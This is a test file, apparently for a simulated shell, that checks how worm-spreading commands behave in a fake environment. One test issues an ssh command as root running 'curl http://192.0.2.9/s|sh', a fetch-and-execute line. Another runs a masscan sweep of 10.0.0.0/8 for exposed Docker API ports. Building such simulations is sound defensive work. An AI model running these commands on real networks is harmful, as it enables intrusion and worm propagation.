import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { host, run } from '../testing/run.ts';

describe('what worms look for more machines with', () => {
  it('ssh waits as long as it is told, and takes options behind the host', async () => {
    const world = host();
    const began = world.ahead;
    const { exitCode, stderr, notes } = await run(
      [
        'ssh',
        '-oBatchMode=yes',
        '-oConnectTimeout=5',
        'root@192.0.2.8',
        '-p2222',
        'curl http://192.0.2.9/s|sh',
      ],
      { world },
    );
    assert.equal(world.ahead - began, 5000);
    assert.equal(exitCode, 255);
    assert.equal(stderr, 'ssh: connect to host 192.0.2.8 port 2222: Connection timed out\n');
    assert.deepEqual(notes, [
      { kind: 'command', words: ['ssh', 'root@192.0.2.8', 'curl http://192.0.2.9/s|sh'] },
      { kind: 'connect', tool: 'ssh', host: '192.0.2.8', port: 2222 },
    ]);
  });

  it('masscan says what it does, finds nothing, and leaves the file that it was asked for', async () => {
    const world = host();
    await run('apt-get install -y masscan', { world });
    const { stdout, stderr } = await run('masscan 10.0.0.0/8 -p2375,2376 --rate=50000 -oL /tmp/out', {
      world,
    });
    assert.equal(stdout, '');
    assert.match(
      stderr,
      /^Starting masscan 1\.3\.2 .* GMT\nInitiating SYN Stealth Scan\nScanning 16777216 hosts \[2 ports\/host\]\n$/,
    );
    assert.equal((await run('wc -c /tmp/out', { world })).stdout, '0 /tmp/out\n');
  });
});
